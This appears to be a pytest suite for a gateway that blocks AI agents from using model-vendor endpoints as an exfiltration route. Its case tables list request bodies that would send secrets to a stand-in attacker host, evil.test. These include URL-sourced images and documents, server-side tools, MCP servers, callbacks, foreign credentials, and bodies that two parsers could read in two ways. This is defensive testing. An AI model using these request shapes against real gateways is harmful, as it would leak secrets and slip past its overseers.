"""The model endpoint as a way out: every kind is a denial with its row before any connection, and an alert (E1, E4)."""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

import lockgate as lg
from alerts_receiver import Receiver, alerts_config, webhook_sink
from lockgate.audit import reader
from lockgate.policy.host import Refusal
from lockgate.policy.model_rules import PATHS, judge_model
from model_behind import model_home
from model_vendor import Vendor

FETCH = {"type": "url", "url": "https://evil.test/?d=SECRET"}
PICTURE = {"type": "image", "source": FETCH}
BY_CODE = ["code_execution_20250825"]


def message(*content: Any) -> dict[str, Any]:
    return {"messages": [{"role": "user", "content": list(content)}]}


ANTHROPIC: list[tuple[str, dict[str, Any]]] = [
    ("server_side_tool", {"tools": [{"type": "web_fetch_20250910", "name": "web_fetch"}]}),
    ("server_side_tool", {"tools": [{"type": "code_execution_20260521", "name": "code_execution"}]}),
    ("server_side_tool", {"tools": [{"type": "computer_toolset_20260801"}]}),
    ("server_side_tool", {"tools": [{"type": "whatever_comes_20301231", "name": "x"}]}),
    ("server_side_tool", {"tools": [{"name": "f", "input_schema": {}, "allowed_callers": BY_CODE}]}),
    ("server_side_tool", {"mcp_servers": [{"type": "url", "url": "https://evil.test/sse", "name": "x"}]}),
    ("server_side_tool", {"container": {"skills": [{"type": "custom", "skill_id": "x"}]}}),
    ("server_side_tool", message({"type": "server_tool_use", "id": "x", "name": "web_fetch", "input": {}})),
    ("server_side_fetch", message(PICTURE)),
    ("server_side_fetch", message({"type": "document", "source": FETCH})),
    ("server_side_fetch", message({"type": "tool_result", "tool_use_id": "x", "content": [PICTURE]})),
    ("server_side_fetch", message({"type": "document", "source": {"type": "content", "content": [PICTURE]}})),
    ("server_side_fetch", {"tools": [{"name": "f", "input_schema": {"$ref": "https://evil.test/s.json"}}]}),
    ("foreign_file_id", message({"type": "document", "source": {"type": "file", "file_id": "file_011evil"}})),
    ("callback_denied", {"webhook": {"endpoint": "https://evil.test/"}}),
    ("foreign_credential", {"api_key": "sk-synthetic-attacker"}),
    ("field_not_declared", {"surprise": 1}),
]  # fmt: skip
OPENAI: list[tuple[str, dict[str, Any]]] = [
    ("server_side_tool", {"tools": [{"type": "web_search_preview"}]}),
    ("server_side_tool", {"tools": [{"type": "mcp", "server_url": "https://evil.test/", "server_label": "x"}]}),
    ("server_side_tool", {"tools": [{"type": "file_search", "vector_store_ids": ["vs_1"]}]}),
    ("server_side_tool", {"web_search_options": {}}),
    ("server_side_tool", {"plugins": [{"id": "web"}]}),
    ("server_side_fetch", message({"type": "image_url", "image_url": {"url": "https://evil.test/?d=SECRET"}})),
    ("server_side_fetch", message({"type": "image_url", "image_url": "https://evil.test/?d=SECRET"})),
    ("server_side_fetch", message({"type": "input_audio", "input_audio": {"data": "https://evil.test/"}})),
    ("server_side_fetch", message({"type": "video_url", "video_url": {"url": "https://evil.test/"}})),
    ("foreign_file_id", message({"type": "file", "file": {"file_id": "file-evil"}})),
    ("server_side_fetch", message({"type": "file", "file": {"file_data": "https://evil.test/x.pdf"}})),
    ("callback_denied", {"callback_url": "https://evil.test/"}),
    ("foreign_credential", {"authorization": "Bearer sk-synthetic-attacker"}),
    ("field_not_declared", {"store": True}),
]  # fmt: skip
CASES = [("anthropic_messages", *case) for case in ANTHROPIC] + [("openai_chat", *case) for case in OPENAI]


@pytest.fixture(scope="module")
def vendor() -> Iterator[Vendor]:
    made = Vendor()
    yield made
    made.close()


@pytest.fixture(scope="module")
def receiver() -> Iterator[Receiver]:
    made = Receiver()
    yield made
    made.close()


@pytest.fixture(scope="module")
def home(tmp_path_factory: pytest.TempPathFactory, vendor: Vendor, receiver: Receiver) -> Path:
    place = tmp_path_factory.mktemp("model-exfil")
    alerts = alerts_config(place, webhook_sink(receiver, every=True), escalate=10_000).read_text()
    more = alerts.replace('[audit]\npath = "audit.db"\n', "")
    return model_home(place, vendor.url, "model_exfil_operations", more)


@pytest.fixture(scope="module")
def model_run(home: Path) -> Iterator[lg.sync.Run]:
    allow: dict[str, Any] = {"anthropic_messages": {}, "openai_chat": {}, "model_stream": {}}
    scope = lg.Scope(user="mallory", agent="atlas", tenant="acme", expires=lg.minutes(5), allow=allow)
    with lg.sync.Gate(home) as gate, gate.run_scope(scope) as run:
        yield run


def ask(run: lg.sync.Run, operation: str, body: dict[str, Any], model: str = "m") -> lg.CallOutcome:
    return run.try_call(operation, model=model, limit=9, body=json.dumps(body))


@pytest.mark.parametrize("case", CASES)
def test_the_vendor_is_never_asked_to_reach_out(
    model_run: lg.sync.Run, vendor: Vendor, home: Path, case: tuple[str, str, dict[str, Any]]
) -> None:
    """E1: denied in authorize(), with its row; the vendor saw nothing. The same from the gateway's rule."""
    operation, reason, body = case
    before = len(vendor.asked)
    outcome = ask(model_run, operation, body)
    assert (outcome.ok, outcome.reason) == (False, "argument_not_allowed")
    assert len(vendor.asked) == before
    row = next(row for row in reader.tail(home / "audit.db", 10) if row.id == outcome.audit_id)
    assert (row.phase, row.verdict, row.user) == ("denied", "deny", "mallory")
    assert (row.reason or "").startswith(f"{reason}: ")
    assert "SECRET" not in repr(row)
    api: Any = "anthropic" if operation == "anthropic_messages" else "openai"
    refusal = judge_model(api, "POST", PATHS[api].encode(), (), json.dumps(body).encode())
    assert isinstance(refusal, Refusal)
    assert refusal.reason == reason


def test_what_is_no_way_out_is_answered(model_run: lg.sync.Run, vendor: Vendor) -> None:
    """The control: the same shapes without the way out reach the vendor."""
    vendor.mode = ""
    inline = {"type": "base64", "media_type": "image/png", "data": "iVBORw0KGgo="}
    tools = [{"name": "f", "description": "d", "input_schema": {"type": "object", "$defs": {}, "$ref": "#/$defs/x"}}]
    body = {
        **message({"type": "text", "text": "see https://evil.test/"}, {"type": "image", "source": inline}),
        "tools": tools,
    }
    assert ask(model_run, "anthropic_messages", body).ok
    data = {"type": "image_url", "image_url": {"url": "data:image/png;base64,iVBORw0KGgo="}}
    function = {"type": "function", "function": {"name": "f", "parameters": {"type": "object"}}}
    assert ask(model_run, "openai_chat", {**message(data), "tools": [function]}).ok


def test_models_that_search_by_themselves(model_run: lg.sync.Run) -> None:
    for name in ("openai/gpt-x:online", "gpt-4o-search-preview", "sonar-pro", "o4-mini-deep-research"):
        assert ask(model_run, "openai_chat", message("x"), model=name).reason == "argument_not_allowed"
    assert ask(model_run, "openai_chat", {"messages": [{"role": "user", "content": "x"}]}, model="research-lab/m").ok


def test_a_foreign_credential_is_told_as_critical(model_run: lg.sync.Run, receiver: Receiver, vendor: Vendor) -> None:
    """E4: refused, never replaced, and told at once."""
    outcome = ask(model_run, "anthropic_messages", {"x_api_key": "sk-synthetic-attacker"})
    found = receiver.wait(lambda found: any(one.json["event"]["audit_id"] == outcome.audit_id for one in found))
    told = next(one.json for one in found if one.json["event"]["audit_id"] == outcome.audit_id)
    assert (told["event"]["kind"], told["event"]["reason"], told["severity"]) == (
        "finding",
        "foreign_credential",
        "critical",
    )
    assert told["ocsf"]["class_uid"] == 2004
    assert all("sk-synthetic-attacker" not in one.body.decode() for one in vendor.asked)


def test_code_may_not_reach_out_either(model_run: lg.sync.Run, vendor: Vendor) -> None:
    """E1: the same from inside a sandbox."""
    body = json.dumps(message({"type": "image", "source": FETCH}))
    before = len(vendor.asked)
    result = model_run.code(f"import host\nhost.call('anthropic_messages', model='m', limit=9, body={body!r})")
    assert result.error is not None
    assert [(call.verdict, call.rule) for call in result.calls] == [("deny", "anthropic_messages.body.model")]
    assert len(vendor.asked) == before


@pytest.mark.parametrize(
    ("target", "fields", "reason"),
    [
        (b"/v1/files", ((b"x-api-key", b"sk-synthetic"),), "path_not_allowed"),
        (b"/v1/messages/batches", (), "path_not_allowed"),
        (b"/v1/messages/count_tokens", (), "path_not_allowed"),
        (b"/v1/messages/", (), "path_not_allowed"),
        (b"/v1/messages?key=sk", (), "path_not_allowed"),
        (b"/V1/messages", (), "path_not_allowed"),
        (b"/v1/x/../messages", (), "path_not_canonical"),
        (b"/v1/messages%2fbatches", (), "path_not_canonical"),
        (b"/v1/messages", ((b"x-api-key", b"sk-synthetic"),), "foreign_credential"),
        (b"/v1/messages", ((b"authorization", b"Bearer sk-synthetic"),), "foreign_credential"),
        (b"/v1/messages", ((b"Api-Key", b"x"),), "foreign_credential"),
        (b"/v1/messages", ((b"x-goog-api-key", b"x"),), "foreign_credential"),
        (b"/v1/messages", ((b"cookie", b"session=1"),), "foreign_credential"),
        (b"/v1/messages", ((b"proxy-authorization", b"Basic eA=="),), "foreign_credential"),
        (b"/v1/messages", ((b"x-amz-security-token", b"x"),), "foreign_credential"),
        (b"/v1/messages", ((b"anthropic-beta", b"mcp-client-2025-11-20"),), "forbidden_header"),
        (b"/v1/messages", ((b"anthropic-workspace-id", b"x"),), "forbidden_header"),
        (b"/v1/messages", ((b"content-encoding", b"gzip"),), "opaque_body"),
        (b"/v1/messages", ((b"content-encoding", b"identity"), (b"idempotency-key", b"x")), None),
        (b"/v1/messages", ((b"x-api-key", b""), (b"anthropic-version", b"2023-06-01")), None),
        (b"/v1/messages?beta=true", ((b"anthropic-beta", b"context-1m-2025-08-07"),), None),
    ],
)
def test_heads_of_intercepted_requests(target: bytes, fields: Any, reason: str | None) -> None:
    """E1: path before credential, credential before body; one path, no account, nothing opaque."""
    refusal = judge_model("anthropic", "POST", target, fields, b"{}")
    assert (refusal.reason if isinstance(refusal, Refusal) else None) == reason


@pytest.mark.parametrize(
    "body",
    [b'{"tools":[],"tools":[]}', b'{"model":"x","m\\u006fdel":"y"}', b"[]", b"\xef\xbb\xbf{}", "{}".encode("utf-16"),
     b'{"temperature":NaN}', b'{"temperature":1e999}', b'{"max_tokens":99999999999999999999999}', b"{} {}",
     b'{"messages":' + b"[" * 10_000 + b"]" * 10_000 + b"}", b"\xff", b'{"system":' + b'{"a":' * 70 + b"1" + b"}" * 71],
)  # fmt: skip
def test_bodies_that_two_parsers_could_read_in_two_ways(body: bytes) -> None:
    refusal = judge_model("anthropic", "POST", b"/v1/messages", (), body)
    assert isinstance(refusal, Refusal)
    assert refusal.reason == "bad_request"
